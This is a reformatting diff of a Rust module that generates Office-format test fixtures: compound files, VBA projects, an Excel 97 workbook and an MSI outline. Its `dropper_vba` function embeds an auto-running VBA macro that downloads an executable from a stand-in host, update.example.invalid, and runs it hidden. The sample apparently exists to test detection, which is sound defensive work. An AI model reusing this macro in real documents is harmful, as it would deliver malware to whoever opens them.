@@ -14,40 +14,23 @@ use std::time::{Duration, SystemTime};
 /// # Errors
 /// When the library refuses a path.
 pub fn compound_file(streams: &[(&str, Vec<u8>)], root_class: Option<[u8; 16]>) -> Result<Vec<u8>> {
-    let mut file =
-        cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new()))
-            .context("compound file")?;
+    let mut file = cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new())).context("compound file")?;
     let time = SystemTime::UNIX_EPOCH + Duration::from_secs(u64::from(crate::archive::UNIX_TIME));
     for (path, content) in streams {
-        if let Some((storage, _)) = path
-            .rsplit_once('/')
-            .filter(|(storage, _)| !storage.is_empty() && !file.is_storage(storage))
-        {
-            file.create_storage_all(storage)
-                .with_context(|| format!("storage {storage}"))?;
+        if let Some((storage, _)) = path.rsplit_once('/').filter(|(storage, _)| !storage.is_empty() && !file.is_storage(storage)) {
+            file.create_storage_all(storage).with_context(|| format!("storage {storage}"))?;
             file.set_created_time(storage, time)?;
             file.set_modified_time(storage, time)?;
         }
-        file.create_stream(path)
-            .and_then(|mut s| s.write_all(content))
-            .with_context(|| format!("stream {path}"))?;
+        file.create_stream(path).and_then(|mut s| s.write_all(content)).with_context(|| format!("stream {path}"))?;
     }
     file.flush()?;
     let mut bytes = file.into_inner().into_inner();
     // The root's class and times stand at fixed places of the first directory entry (MS-CFB 2.2, 2.6.1).
-    let sector = bytes
-        .get(48..52)
-        .and_then(|s| s.try_into().ok())
-        .map_or(0, u32::from_le_bytes) as usize;
+    let sector = bytes.get(48..52).and_then(|s| s.try_into().ok()).map_or(0, u32::from_le_bytes) as usize;
     let root = (sector + 1) * 512;
-    bytes
-        .get_mut(root + 80..root + 96)
-        .context("directory entry of the root")?
-        .copy_from_slice(&root_class.unwrap_or_default());
-    bytes
-        .get_mut(root + 100..root + 116)
-        .context("directory entry of the root")?
-        .fill(0);
+    bytes.get_mut(root + 80..root + 96).context("directory entry of the root")?.copy_from_slice(&root_class.unwrap_or_default());
+    bytes.get_mut(root + 100..root + 116).context("directory entry of the root")?.fill(0);
     Ok(bytes)
 }
 
@@ -67,10 +50,7 @@ fn ovba_container(source: &[u8], packing: Packing) -> Vec<u8> {
         // BOUND: 3,500 literal bytes with their flag bytes stay below the 4,098 bytes a chunk may have.
         Packing::Compressed => {
             for chunk in source.chunks(3_500) {
-                let tokens: Vec<u8> = chunk
-                    .chunks(8)
-                    .flat_map(|eight| std::iter::once(0).chain(eight.iter().copied()))
-                    .collect();
+                let tokens: Vec<u8> = chunk.chunks(8).flat_map(|eight| std::iter::once(0).chain(eight.iter().copied())).collect();
                 out.extend((0xB000u16 | (tokens.len() as u16 - 1)).to_le_bytes());
                 out.extend(tokens);
             }
@@ -78,13 +58,7 @@ fn ovba_container(source: &[u8], packing: Packing) -> Vec<u8> {
         Packing::Raw => {
             for chunk in source.chunks(4_096) {
                 out.extend(0x3FFFu16.to_le_bytes());
-                out.extend(
-                    chunk
-                        .iter()
-                        .copied()
-                        .chain(std::iter::repeat(b'\n'))
-                        .take(4_096),
-                );
+                out.extend(chunk.iter().copied().chain(std::iter::repeat(b'\n')).take(4_096));
             }
         }
     }
@@ -144,19 +118,12 @@ pub fn vba_project(modules: &[(&str, bool, &str)], packing: Packing) -> Result<V
     let mut wide_names = Vec::new();
     let mut streams: Vec<(String, Vec<u8>)> = Vec::new();
     for (name, is_document, source) in modules {
-        text.push_str(&if *is_document {
-            format!("Document={name}/&H00000000\r\n")
-        } else {
-            format!("Module={name}\r\n")
-        });
+        text.push_str(&if *is_document { format!("Document={name}/&H00000000\r\n") } else { format!("Module={name}\r\n") });
         wide_names.extend(name.bytes().chain([0]));
         wide_names.extend(bits::utf16le(name));
         wide_names.extend([0, 0]);
         let source = format!("Attribute VB_Name = \"{name}\"\r\n{source}");
-        streams.push((
-            format!("/VBA/{name}"),
-            ovba_container(&bits::windows_1252(&source), packing),
-        ));
+        streams.push((format!("/VBA/{name}"), ovba_container(&bits::windows_1252(&source), packing)));
     }
     wide_names.extend([0, 0]);
     text.push_str(
@@ -164,20 +131,11 @@ pub fn vba_project(modules: &[(&str, bool, &str)], packing: Packing) -> Result<V
          DPB=\"0E0CD1ECDFF4E7F5E7F5E7\"\r\nGC=\"1517CAF1D6F9D7F9D706\"\r\n\r\n[Host Extender Info]\r\n\
          &H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n\r\n[Workspace]\r\n",
     );
-    streams.push((
-        "/VBA/dir".into(),
-        ovba_container(&vba_directory(modules), Packing::Compressed),
-    ));
-    streams.push((
-        "/VBA/_VBA_PROJECT".into(),
-        vec![0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0],
-    ));
+    streams.push(("/VBA/dir".into(), ovba_container(&vba_directory(modules), Packing::Compressed)));
+    streams.push(("/VBA/_VBA_PROJECT".into(), vec![0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0]));
     streams.push(("/PROJECT".into(), text.into_bytes()));
     streams.push(("/PROJECTwm".into(), wide_names));
-    let streams: Vec<(&str, Vec<u8>)> = streams
-        .iter()
-        .map(|(path, content)| (path.as_str(), content.clone()))
-        .collect();
+    let streams: Vec<(&str, Vec<u8>)> = streams.iter().map(|(path, content)| (path.as_str(), content.clone())).collect();
     compound_file(&streams, None)
 }
 
@@ -187,13 +145,7 @@ pub fn vba_project(modules: &[(&str, bool, &str)], packing: Packing) -> Result<V
 /// As [`vba_project`].
 pub fn harmless_vba(document_module: &str) -> Result<Vec<u8>> {
     let source = "Option Explicit\r\n\r\nPublic Sub Begruessung()\r\n    MsgBox \"Guten Tag aus dem Makro.\", vbInformation, \"Muster AG\"\r\nEnd Sub\r\n";
-    vba_project(
-        &[
-            (document_module, true, "Option Explicit\r\n"),
-            ("Modul1", false, source),
-        ],
-        Packing::Compressed,
-    )
+    vba_project(&[(document_module, true, "Option Explicit\r\n"), ("Modul1", false, source)], Packing::Compressed)
 }
 
 /// A dropper as it arrives by mail: starts itself, fetches a program, runs it. Never run here; its server does not exist.
@@ -206,13 +158,7 @@ pub fn dropper_vba(document_module: &str) -> Result<Vec<u8>> {
         Sub Auto_Open()\r\n    Document_Open\r\nEnd Sub\r\n\r\nSub Document_Open()\r\n    Dim ziel As String\r\n    \
         ziel = Environ(\"TEMP\") & \"\\update.exe\"\r\n    URLDownloadToFile 0, \"http://update.example.invalid/update.exe\", ziel, 0, 0\r\n    \
         Shell ziel, vbHide\r\nEnd Sub\r\n";
-    vba_project(
-        &[
-            (document_module, true, "Option Explicit\r\n"),
-            ("Modul1", false, source),
-        ],
-        Packing::Raw,
-    )
+    vba_project(&[(document_module, true, "Option Explicit\r\n"), ("Modul1", false, source)], Packing::Raw)
 }
 
 /// An Excel 97 workbook with one sheet (BIFF8 in a compound file).
@@ -227,18 +173,12 @@ pub fn xls(sheet: &str, rows: &[Vec<Cell>]) -> Result<Vec<u8>> {
     };
     let begin = |kind: u16| {
         let words: [u16; 8] = [0x0600, kind, 0x0DBB, 0x07CC, 0x00C1, 0, 0x0006, 0];
-        words
-            .iter()
-            .flat_map(|w| w.to_le_bytes())
-            .collect::<Vec<u8>>()
+        words.iter().flat_map(|w| w.to_le_bytes()).collect::<Vec<u8>>()
     };
     let mut cells = Vec::new();
     for (row, line) in rows.iter().enumerate() {
         for (column, cell) in line.iter().enumerate() {
-            let mut body: Vec<u8> = [row as u16, column as u16, 0]
-                .iter()
-                .flat_map(|w| w.to_le_bytes())
-                .collect();
+            let mut body: Vec<u8> = [row as u16, column as u16, 0].iter().flat_map(|w| w.to_le_bytes()).collect();
             match cell {
                 Cell::Text(text) => {
                     let wide = bits::utf16le(text);
@@ -248,12 +188,7 @@ pub fn xls(sheet: &str, rows: &[Vec<Cell>]) -> Result<Vec<u8>> {
                     biff(&mut cells, 0x0204, &body);
                 }
                 Cell::Number(value) | Cell::Formula(_, value) => {
-                    body.extend(
-                        value
-                            .parse::<f64>()
-                            .with_context(|| format!("cell value {value}"))?
-                            .to_le_bytes(),
-                    );
+                    body.extend(value.parse::<f64>().with_context(|| format!("cell value {value}"))?.to_le_bytes());
                     biff(&mut cells, 0x0203, &body);
                 }
             }
@@ -274,22 +209,12 @@ pub fn xls(sheet: &str, rows: &[Vec<Cell>]) -> Result<Vec<u8>> {
     // Used area: rows and columns, each first and one past the last (MS-XLS 2.4.90).
     let columns = rows.iter().map(Vec::len).max().unwrap_or(0) as u32;
     let area = [0, rows.len() as u32, columns << 16, 0];
-    biff(
-        &mut book,
-        0x0200,
-        area.map(u32::to_le_bytes)
-            .as_flattened()
-            .get(..14)
-            .unwrap_or_default(),
-    );
+    biff(&mut book, 0x0200, area.map(u32::to_le_bytes).as_flattened().get(..14).unwrap_or_default());
     book.extend(cells);
     biff(&mut book, 0x000A, &[]);
     // Streams below 4,096 bytes lie in the mini stream, which old readers of this stream do not expect.
     book.resize(book.len().max(4_096), 0);
-    compound_file(
-        &[("/Workbook", book)],
-        Some(*b"\x20\x08\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"),
-    )
+    compound_file(&[("/Workbook", book)], Some(*b"\x20\x08\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"))
 }
 
 /// What a Windows installer looks like from outside: the class identifier and the stream names of one, without tables.
@@ -299,18 +224,9 @@ pub fn xls(sheet: &str, rows: &[Vec<Cell>]) -> Result<Vec<u8>> {
 pub fn msi_outline() -> Result<Vec<u8>> {
     compound_file(
         &[
-            (
-                "/\u{5}SummaryInformation",
-                vec![0xFE, 0xFF, 0, 0, 6, 1, 2, 0],
-            ),
-            (
-                "/\u{4840}\u{3F3F}\u{4577}\u{446C}\u{3E6A}\u{44B2}\u{482F}",
-                vec![0xE4, 4, 0, 0],
-            ),
-            (
-                "/\u{4840}\u{3F3F}\u{4577}\u{446C}\u{3B6A}\u{45E4}\u{4824}",
-                b"Muster-Installation".to_vec(),
-            ),
+            ("/\u{5}SummaryInformation", vec![0xFE, 0xFF, 0, 0, 6, 1, 2, 0]),
+            ("/\u{4840}\u{3F3F}\u{4577}\u{446C}\u{3E6A}\u{44B2}\u{482F}", vec![0xE4, 4, 0, 0]),
+            ("/\u{4840}\u{3F3F}\u{4577}\u{446C}\u{3B6A}\u{45E4}\u{4824}", b"Muster-Installation".to_vec()),
         ],
         Some(*b"\x84\x10\x0C\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"),
     )
@@ -327,10 +243,7 @@ mod tests {
         assert_eq!(bytes, dropper_vba("ThisDocument").unwrap());
         let mut file = cfb::CompoundFile::open(Cursor::new(bytes)).unwrap();
         let mut source = Vec::new();
-        file.open_stream("/VBA/Modul1")
-            .unwrap()
-            .read_to_end(&mut source)
-            .unwrap();
+        file.open_stream("/VBA/Modul1").unwrap().read_to_end(&mut source).unwrap();
         assert!(source.windows(17).any(|w| w == b"URLDownloadToFile"));
         assert!(file.is_stream("/VBA/dir") && file.is_stream("/PROJECT"));
     }
